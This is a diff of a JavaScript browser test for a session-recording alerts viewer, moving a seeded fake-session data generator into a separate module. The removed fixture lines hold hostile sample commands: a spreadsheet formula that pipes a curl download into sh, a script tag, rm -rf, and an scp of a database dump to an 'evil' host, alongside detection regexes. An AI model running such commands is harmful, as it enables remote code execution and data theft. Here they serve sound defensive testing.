@@ -14,90 +14,11 @@ import { readFileSync, writeFileSync, mkdtempSync } from 'node:fs';
 import { tmpdir } from 'node:os';
 import { join } from 'node:path';
 import { startSimulator, launchBrowser, newPage, login, screenshot } from './harness.mjs';
+import { alertsDataset } from './alerts-data.mjs';
 
 const QUERY = 'protocol:SSH';
 const SSH_SESSIONS = 300;
 const OTHER_SESSIONS = 120;
-const HOUR = 3_600_000;
-const BASE_MS = Date.parse('2026-10-01T00:00:00Z');
-const iso = (ms) => new Date(ms).toISOString();
-/** Alert times are naive (UTC) with microseconds, as the reference shows. */
-const naive = (ms) => new Date(ms).toISOString().replace('Z', '000');
-
-const RULES = [
-  { name: 'SudoUse', regexp: 'sudo\\s+\\S+', text: (i) => `admin@db:~$ sudo systemctl restart app${i}` },
-  { name: 'RemoveAll', regexp: 'rm\\s+-rf', text: (i) => `root@web:/# rm -rf /tmp/build-${i}` },
-  { name: 'PasswordChange', regexp: '(?i)passwd', text: (i) => `user${i}@app:~$ PASSWD bob` },
-  // A formula a spreadsheet would run, and markup: both stay text.
-  { name: 'Download', regexp: 'curl\\s+https?://', text: (i) => `=cmd|' /C curl http://198.51.100.${i % 250}/x.sh | sh <script>alert(1)</script>` },
-];
-const RARE = { name: 'Exfiltration', regexp: 'scp\\s', text: (i) => `ops@ci:~$ scp dump-${i}.sql evil@203.0.113.9:` };
-const USERS = ['alice', 'bob', 'carol', 'dave', 'erin', 'frank'];
-const SERVERS = ['db-01', 'web-01', 'app-02', 'ci-03'];
-
-/** A small deterministic generator (mulberry32), so the data set is fixed. */
-function random(seed) {
-  let a = seed >>> 0;
-  return () => {
-    a = (a + 0x6d2b79f5) >>> 0;
-    let t = a;
-    t = Math.imul(t ^ (t >>> 15), t | 1);
-    t ^= t + Math.imul(t ^ (t >>> 7), t | 61);
-    return ((t ^ (t >>> 14)) >>> 0) / 4294967296;
-  };
-}
-
-function dataset() {
-  const rand = random(7);
-  const lines = [];
-  for (let i = 0; i < SSH_SESSIONS + OTHER_SESSIONS; i++) {
-    // 5 of every 7: 300 SSH sessions and 120 others.
-    const ssh = i % 7 < 5;
-    const protocol = ssh ? 'SSH' : 'RDP';
-    const startMs = BASE_MS + i * HOUR;
-    const duration = 1800;
-    // A few sessions have the rare rule (and so at least one alert).
-    const rare = ssh && i % 97 === 4;
-    const count = ssh ? Math.max(Math.floor(rand() * 14), rare ? 1 : 0) : Math.floor(rand() * 3);
-    const alerts = [];
-    for (let n = 0; n < count; n++) {
-      const rule = (rare && n === 0) ? RARE : RULES[Math.floor(rand() * rand() * RULES.length)];
-      const at = startMs + 5_000 + Math.floor(rand() * (duration - 10) * 1000);
-      alerts.push({
-        alert_type: 'adp.event.command',
-        channel_id: '1',
-        matched_action: rule.text(i),
-        matched_content: rule.text(i),
-        matched_regexp: rule.regexp,
-        record_id: 10 + n,
-        rule_name: rule.name,
-        time: naive(at),
-      });
-    }
-    lines.push({
-      key: `s-${String(i).padStart(4, '0')}`,
-      body: {
-        protocol,
-        start_time: iso(startMs),
-        end_time: iso(startMs + duration * 1000),
-        duration,
-        active: false,
-        verdict: 'ACCEPT',
-        origin: 'RECORDING',
-        user: { gateway_username: USERS[i % USERS.length], server_username: ['root'], name: 'op' },
-        server: { ip: `10.0.0.${i % 200}`, name: SERVERS[i % SERVERS.length], port: 22 },
-        client: { ip: '192.0.2.10', name: 'ws-1', port: 50000 },
-        recording: { connection_policy: 'prod', channel_policy: 'prod', index_status: 'INDEXED', verdict: 'ACCEPT' },
-        channel: [{
-          channel_id: 1, type: 'session shell', verdict: 'accept', active: false,
-          start_time: iso(startMs), end_time: iso(startMs + duration * 1000), duration,
-        }],
-      },
-      alerts,
-    });
-  }
-  return lines.map((l) => JSON.stringify(l)).join('\n') + '\n';
-}
 
 let sim;
 let browser;
@@ -144,7 +65,7 @@ async function apiAlerts(q) {
 before(async () => {
   dir = mkdtempSync(join(tmpdir(), 'spsview-alerts-'));
   const path = join(dir, 'alerts.ndjson');
-  writeFileSync(path, dataset());
+  writeFileSync(path, alertsDataset({ sshSessions: SSH_SESSIONS, otherSessions: OTHER_SESSIONS }));
   sim = await startSimulator(['--data', path]);
   browser = await launchBrowser();
   expected = await apiAlerts(QUERY);
